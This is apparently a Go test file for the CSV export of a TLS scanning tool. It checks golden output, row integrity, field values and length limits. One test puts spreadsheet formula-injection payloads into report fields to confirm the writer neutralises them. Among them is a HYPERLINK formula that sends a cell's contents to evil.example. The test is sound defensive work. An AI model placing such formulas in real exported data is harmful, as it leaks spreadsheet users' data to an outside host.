package csv

import (
	"bytes"
	"encoding/csv"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/portseal/portseal/report"
	"github.com/portseal/portseal/report/internal/sample"
	"github.com/portseal/portseal/report/text"
)

var update = flag.Bool("update", false, "write the golden files")

func render(t *testing.T, rep *report.Report) string {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, Write(&out, rep))
	return out.String()
}

func TestGolden(t *testing.T) {
	all := sample.All()
	all["full"] = sample.Full()
	for name, rep := range all {
		t.Run(name, func(t *testing.T) {
			got := render(t, rep)
			path := filepath.Join("testdata", name+".csv")
			if *update {
				require.NoError(t, os.WriteFile(path, []byte(got), 0o644))
			}
			want, err := os.ReadFile(path)
			require.NoError(t, err)
			assert.Equal(t, string(want), got)
		})
	}
}

// read is the table as its reader sees it: a map for each row.
func read(t *testing.T, doc string) []map[string]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(doc))
	rows, err := r.ReadAll()
	require.NoError(t, err, "all rows have as many cells as the first")
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, name := range rows[0] {
			assert.NotContains(t, m, name, "each column once")
			m[name] = row[i]
		}
		out = append(out, m)
	}
	return out
}

// Each endpoint and each finding has its row, and no finding is lost or doubled.
func TestRows(t *testing.T) {
	for name, rep := range sample.All() {
		findings, endpoints := map[string]int{}, map[string]bool{}
		for _, row := range read(t, render(t, rep)) {
			switch row["record"] {
			case "finding", "estate":
				findings[row["finding"]+" "+row["endpoint"]]++
			case "endpoint":
				assert.Empty(t, row["finding"])
			case "limit":
				assert.NotEmpty(t, row["title"])
				continue
			}
			endpoints[row["endpoint"]] = true
		}
		want := map[string]int{}
		for _, f := range rep.Findings {
			want[f.ID+" "+f.Endpoint]++
		}
		assert.Equal(t, want, findings, name)
		for _, e := range rep.Endpoints {
			assert.True(t, endpoints[e.ID], e.ID)
		}
	}
}

func TestFacts(t *testing.T) {
	rows := map[string]map[string]string{}
	for _, row := range read(t, render(t, sample.Demo())) {
		rows[row["endpoint"]+" "+row["finding"]] = row
	}
	expired := rows["SYSA/web CERT-EXPIRED"]
	require.NotNil(t, expired)
	for column, want := range map[string]string{"state": "tls", "versions": "TLSv1.2 TLSv1.3", "certificate_days_left": "-12", "severity": "critical",
		"status": "open", "expect": "tls", "client_auth": "none", "estate": "demo", "port": "3401"} {
		assert.Equal(t, want, expired[column], column)
	}
	untrusted := rows["SYSA/agent-tls CHAIN-UNTRUSTED"]
	assert.Equal(t, "agent-out@SYSA", untrusted["trusted_by"])
	assert.Equal(t, "agent-out@SYSB", untrusted["untrusted_by"])
	waived := rows["SYSB/tn3270 CERT-EXPIRES-SOON"]
	assert.Equal(t, []string{"waived", "2027-01-15", "CHG123"}, []string{waived["status"], waived["waived_until"], waived["waived_ticket"]})
	assert.Equal(t, "groups of TLSv1.3: budget of 60 connections used", waived["not_tested"])
	assert.Equal(t, "not-assessed", rows["SYSB/ispf NOT-ASSESSED"]["status"])
	assert.Equal(t, "policy/sysb.attls:1:1", rows[" INPUT-STALE"]["file"])
}

func TestNothingHostileReachesASpreadsheet(t *testing.T) {
	rep := sample.Hostile()
	formula := "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")\r\n" + sample.Attack
	for i := range rep.Certificates {
		rep.Certificates[i].Subject, rep.Certificates[i].Names = formula, []string{"＝1+1"}
	}
	rep.Endpoints[0].ID, rep.Endpoints[0].Target.Host = "@SUM(1)", "+1"
	rep.Findings[0].Endpoint, rep.Findings[0].Observed = "@SUM(1)", "-1\t\x1b[2J"
	doc := render(t, rep)
	for _, r := range strings.ReplaceAll(doc, "\r\n", "") {
		assert.False(t, text.Unsafe(r), "%q", r)
	}
	for _, row := range read(t, doc) {
		for column, value := range row {
			if column == "certificate_days_left" {
				continue
			}
			assert.False(t, value != "" && strings.ContainsAny(value[:1], "=+-@\t\r"), "%s: %q", column, value)
			assert.False(t, strings.HasPrefix(value, "＝"), "%s: %q", column, value)
		}
	}
}

func TestLongTextIsCut(t *testing.T) {
	rep := sample.Demo()
	rep.Findings[0].Observed = strings.Repeat("東京", 20000)
	for _, row := range read(t, render(t, rep)) {
		assert.LessOrEqual(t, len(row["observed"]), 32767)
	}
}

func TestWriteFails(t *testing.T) {
	require.Error(t, Write(fails{}, sample.Demo()))
}

type fails struct{}

func (fails) Write([]byte) (int, error) { return 0, errors.New("disk full") }
